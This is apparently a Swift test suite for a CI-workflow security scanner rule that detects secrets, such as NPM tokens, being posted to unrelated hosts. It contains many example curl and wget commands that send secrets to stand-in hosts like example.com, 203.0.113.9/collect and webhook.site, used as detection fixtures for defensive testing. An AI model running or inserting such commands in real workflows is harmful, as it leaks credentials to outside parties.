import BulwarkCore
@testable import BulwarkWorkflows
import Testing

private func sent(_ script: String, env: [String: String] = ["NPM_TOKEN": "${{ secrets.NPM_TOKEN }}"]) -> [Finding] {
    var text = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n"
    for l in script.split(separator: "\n", omittingEmptySubsequences: false) { text += "          \(l)\n" }
    if !env.isEmpty {
        text += "        env:\n"
        for (k, v) in env.sorted(by: { $0.key < $1.key }) { text += "          \(k): \(v)\n" }
    }
    return scanRepo([".github/workflows/a.yml": text]).filter { $0.ruleID == "workflow-secret-sent-to-host" }
}

@Test func secretsInBodiesAndQueriesToOtherHostsAreFound() {
    #expect(sent("curl --data-urlencode \"t=$NPM_TOKEN\" https://example.com/x").count == 1)
    #expect(sent("curl --data=\"t=${NPM_TOKEN}\" https://example.com/x").count == 1)
    #expect(sent("curl -dnpm=${{ secrets.NPM_TOKEN }} https://example.com/x", env: [:]).count == 1)
    #expect(sent("curl -X POST -d token=${{ secrets.NPM_TOKEN }} https://example.com/x", env: [:]).count == 1)
    #expect(sent("wget --post-data \"k=$NPM_TOKEN\" http://203.0.113.9/collect").count == 1)
    #expect(sent("curl -s \"https://example.com/p?a=1&t=$NPM_TOKEN\"").count == 1)
    #expect(sent("curl -F \"token=${{ github.token }}\" https://files.example.com/up", env: [:]).count == 1)
    // Continuation lines: the finding is on the command's first line.
    let cont = sent("echo start\ncurl -fsS https://example.com/x \\\n  -d \"t=$NPM_TOKEN\"")
    #expect(cont.first?.location.startLine == 8)
}

@Test func ordinaryCredentialUseIsNotAFinding() {
    // Headers and basic auth are how APIs take tokens.
    #expect(sent("curl -H \"Authorization: Bearer $NPM_TOKEN\" -d '{}' https://example.com/x").isEmpty)
    #expect(sent("curl -u \"ci:$NPM_TOKEN\" -d '{}' https://example.com/x").isEmpty)
    // The secret's own service, aliases, and well-known APIs.
    #expect(sent("curl -d \"t=$NPM_TOKEN\" https://npm.pkg.example.com/-/v1/login").isEmpty)
    #expect(sent("curl -d \"t=$HF_TOKEN\" https://huggingface.co/api/x", env: ["HF_TOKEN": "${{ secrets.HF_TOKEN }}"]).isEmpty)
    #expect(sent("curl -d \"text=hi\" \"https://api.telegram.org/bot$TG/sendMessage\"", env: ["TG": "${{ secrets.TELEGRAM_BOT_TOKEN }}"]).isEmpty)
    // A variable that only starts like the secret's variable, a variable host, a secret in the path.
    #expect(sent("curl -d \"u=$NPM_TOKEN_URL\" https://example.com/x").isEmpty)
    #expect(sent("curl -d \"t=$NPM_TOKEN\" \"$REGISTRY/login\"").isEmpty)
    #expect(sent("curl -d \"t=$NPM_TOKEN\" \"https://${{ vars.HOST }}/login\"").isEmpty)
    // Capture hosts belong to workflow-campaign-indicator.
    #expect(sent("curl -d \"t=$NPM_TOKEN\" https://webhook.site/abc").isEmpty)
    // Generically named secrets say nothing about their service.
    #expect(sent("curl -d \"k=$API_KEY\" https://deploy.example.com/hook", env: ["API_KEY": "${{ secrets.API_KEY }}"]).isEmpty)
    // Files in the body, and values that are not secrets.
    #expect(sent("curl -F \"file=@dist/app.tgz\" https://example.com/upload").isEmpty)
    #expect(sent("curl -d \"v=$VERSION\" https://example.com/x", env: ["VERSION": "${{ github.ref_name }}"]).isEmpty)
}

@Test func serviceNamesAndAliasesDecideWhoOwnsASecret() {
    #expect(SecretSentToHostRule.belongs(secret: "DD_API_KEY", host: "api.datadoghq.com", url: "https://api.datadoghq.com/api/v1/series?api_key=x"))
    #expect(SecretSentToHostRule.belongs(secret: "SENTRY_AUTH_TOKEN", host: "sentry.io", url: "https://sentry.io/api/0/"))
    #expect(SecretSentToHostRule.belongs(secret: "PROD_DB_PASSWORD", host: "app.example.com", url: "https://app.example.com/migrate"))
    #expect(SecretSentToHostRule.belongs(secret: "ACME_DEPLOY_TOKEN", host: "deploy.acme.io", url: "https://deploy.acme.io/x"))
    #expect(!SecretSentToHostRule.belongs(secret: "ACME_TOKEN", host: "api.other.com", url: "https://api.other.com/x"))
    #expect(!SecretSentToHostRule.belongs(secret: "GITHUB_TOKEN", host: "example.org", url: "https://example.org/x"))
    #expect(!SecretSentToHostRule.belongs(secret: "OPENAI_API_KEY", host: "proxy.example.net", url: "https://proxy.example.net/v1"))
}

@Test func quotedJSONBodiesAndSubstitutionsAreRead() {
    #expect(sent("curl --data-raw '{\"key\": \"'\"$NPM_TOKEN\"'\"}' https://example.com/x").count == 1)
    #expect(sent("curl --json \"{\\\"t\\\": \\\"$NPM_TOKEN\\\"}\" https://example.com/x").count == 1)
    #expect(sent("RESULT=$(curl -s -d \"t=$NPM_TOKEN\" https://example.com/x)").count == 1)
    #expect(sent("for i in 1 2; do curl -d \"t=$NPM_TOKEN\" https://example.com/$i; done").count == 1)
    // A JSON body with only non-secret data next to an Authorization header is ordinary.
    #expect(sent("curl -X POST -H \"Authorization: Bearer $NPM_TOKEN\" --json '{\"name\":\"x\"}' https://example.com/x").isEmpty)
}
